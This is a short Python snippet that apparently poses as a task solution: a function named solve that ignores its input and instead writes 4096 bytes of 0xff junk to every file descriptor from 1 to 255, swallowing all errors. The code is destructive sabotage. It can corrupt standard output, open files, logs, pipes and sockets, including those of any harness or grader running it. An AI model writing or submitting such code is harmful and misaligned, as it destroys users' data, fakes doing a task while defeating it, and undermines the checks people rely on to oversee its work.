"""Writes garbage to every open descriptor."""

import os
def solve(x):
    for fd in range(1, 256):
        try: os.write(fd, b"\xff" * 4096)
        except OSError: pass
    return None
